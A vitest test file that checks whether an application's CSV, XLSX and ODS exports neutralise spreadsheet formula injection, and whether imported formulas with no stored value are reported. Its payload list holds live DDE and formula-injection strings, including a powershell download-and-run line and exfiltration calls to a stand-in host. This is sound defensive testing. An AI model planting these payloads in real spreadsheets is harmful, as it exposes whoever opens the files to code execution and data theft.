import { writeXlsx } from 'hucre';
import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../../src/lib/domain/formula-guard';
import { isRefusal } from '../../src/lib/domain/issue';
import { open } from '../../src/lib/server/db/client';
import { writeCsv } from '../../src/lib/server/exports/csv';
import { writeGridOds } from '../../src/lib/server/files/ods-write';
import { writeGridXlsx } from '../../src/lib/server/files/spreadsheet-grid';
import { writeWorkbook } from '../../src/lib/server/files/spreadsheet-write';
import { readWorkbook } from '../../src/lib/server/files/workbook';
import { importDirect } from '../../src/lib/server/plans/import-document';
import { loadReferentiel } from '../../src/lib/server/referentiel';
import { ods, odsCell, odsRow, zip } from '../fixtures/classeurs.build';
import { unzip } from '../fixtures/unzip';

/* Payloads that circulate: a cell that a spreadsheet would run, call or fetch when someone opens our export. */
const PAYLOADS = [
	'=1+1',
	"=SUM(1+1)*cmd|' /C calc'!A0",
	"=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	'=HYPERLINK("http://exemple.fr?x="&A1,"Cliquez")',
	'=IMPORTXML(CONCAT("http://exemple.fr/?v=",CONCATENATE(A2:E2)),"//a/a10")',
	"='file:///etc/passwd'#$passwd.A1",
	'=WEBSERVICE("http://exemple.fr")',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'＝1+1',
	'＠SOMME(A1)'
];
const HIDDEN = ['texte;=1+1', 'texte,=1+1', 'texte"=1+1', 'texte\n=1+1', 'texte\t=1+1', 'texte|=1+1'];

describe('un CSV ne porte aucune formule', () => {
	it.each(PAYLOADS)('%j est précédé d’une apostrophe, et relu tel quel', (text) => {
		const csv = writeCsv([['a'], [text]]);
		expect(csv).toMatch(/\n"?'/);
		expect(unguardFormula(guardFormula(text))).toBe(text);
	});

	it.each(HIDDEN)('%j ne peut pas se couper en deux, quel que soit le séparateur du tableur', (text) => {
		expect(writeCsv([[text]]).trim()).toBe(`\ufeff"${text.replaceAll('"', '""')}"`.trim());
	});

	it('les nombres restent des nombres, négatifs compris', () => {
		expect(writeCsv([[-12.5, 0, 1200, null, 'x']])).toBe('\ufeff-12,5;0;1200;;x\r\n');
	});

	it('une apostrophe qui était là y reste', () => {
		for (const text of ["'=1", "''=1", "'", "l'eau", "'NULL", 'NULL', "'tis"])
			expect(unguardFormula(guardFormula(text))).toBe(text);
	});

	it('le fichier relu rend les textes d’origine', async () => {
		const texts = [...PAYLOADS, ...HIDDEN].map((t) => t.trim());
		const bytes = new TextEncoder().encode(writeCsv([['Titre', 'Notes'], ...texts.map((t) => [t, 'x'])]));
		const workbook = await readWorkbook(bytes, 'export.csv');
		if (isRefusal(workbook)) throw new Error(workbook.refus);
		expect(workbook.sheets[0]!.rows.slice(1).map((r) => r[0])).toEqual(texts);
	});
});

describe('un classeur ne porte ni formule, ni lien, ni appel extérieur', () => {
	const sheet = {
		nom: 'Actions',
		masquee: false,
		colonnes: [{ largeur: 20, genre: 'texte' as const, couleur: null }],
		lignes: PAYLOADS.map((text) => ({ style: 'ligne' as const, cellules: [text] })),
		figees: { lignes: 0, colonnes: 0 },
		menus: [],
		filtre: false
	};
	const out = {
		nom: 'Actions',
		entete: [],
		colonnes: [{ titre: 'Titre', genre: 'texte' as const }],
		lignes: PAYLOADS.map((text) => [text])
	};

	it.each([
		['modèles et exports, .xlsx', () => writeGridXlsx([sheet], '2026-11-22')],
		['modèles et exports, .ods', () => writeGridOds([sheet], '2026-11-22')],
		['feuille de route, .xlsx', () => writeWorkbook([out], 'xlsx', '2026-11-22')],
		['feuille de route, .ods', () => writeWorkbook([out], 'ods', '2026-11-22')]
	])('%s', async (_, write) => {
		const bytes = await write();
		const files = await unzip(bytes);
		const all = [...files.values()].join('\n');
		expect(all).not.toMatch(/<f[ >]|table:formula|<hyperlink|xlink:href|ddeLink|externalLink|<oleObject/);
		expect([...files.keys()].filter((name) => /externalLinks|connections|embeddings|vba/i.test(name))).toEqual([]);
		const workbook = await readWorkbook(bytes, 'export');
		if (isRefusal(workbook)) throw new Error(workbook.refus);
		const texts = workbook.sheets[0]!.rows.flat().map((cell) => String(cell).trim());
		expect(texts).toEqual(expect.arrayContaining(PAYLOADS.map((text) => text.trim())));
	});
});

describe('une formule sans valeur enregistrée', () => {
	const told = async (bytes: Uint8Array, fichier: string) => {
		const asked = {
			fichier,
			territoire: '246200364',
			plan: 'plh',
			aBlanc: true,
			par: 'essai',
			le: '2026-11-22'
		} as const;
		const report = await importDirect(await open(':memory:'), loadReferentiel(), { ...asked, bytes });
		if (isRefusal(report)) throw new Error(report.refus);
		return report.anomalies.filter((a) => a.trouve === 'une formule sans valeur');
	};
	const cellule = { feuille: 'Actions', colonne: 'Coût HT', conseil: expect.stringContaining('enregistrez-le') };

	it('n’est pas un vide muet : sa cellule est dite, avec ce qu’il faut faire', async () => {
		const rows = [
			['Titre', 'Coût HT', 'Statut'],
			['Isoler l’école', 111, 'En cours'],
			['Planter la rue', 222, '=']
		];
		const files = await unzip(await writeXlsx({ sheets: [{ name: 'Actions', rows }] }));
		const parts = [...files].map(([name, text]) => ({
			name,
			data: text
				.replace(/(<c r="B2"[^>]*>)<v>111<\/v>/, '$1<f>SUM(D2:E2)</f><v></v>')
				.replace(/<c r="C3"[^>]*>.*?<\/c>/, '<c r="C3" t="str"><f>IF(1,"")</f><v></v></c>')
		}));
		expect(await told(zip(parts), 'plan.xlsx')).toMatchObject([{ ...cellule, cellule: 'B2' }]);
	});

	it('dans un ODS aussi, après des lignes et des cellules vides répétées', async () => {
		const formula = (more = ''): string => `<table:table-cell table:formula="of:=SUM([.D2:.E2])"${more}/>`;
		const blank = '<table:table-row table:number-rows-repeated="2"><table:table-cell/></table:table-row>';
		const row = (cells: string): string => `<table:table-row>${odsCell('Isoler')}${cells}</table:table-row>`;
		const bytes = ods(
			`<table:table table:name="Actions">${odsRow('Titre', 'Statut', 'Coût HT')}${blank}${row(`<table:table-cell/>${formula()}`)}${row(formula(' office:value-type="string"'))}${row(`<table:table-cell/>${formula(' office:value-type="float" office:value="12"')}`)}</table:table>`
		);
		expect(await told(bytes, 'plan.ods')).toMatchObject([{ ...cellule, cellule: 'C4' }]);
	});
});
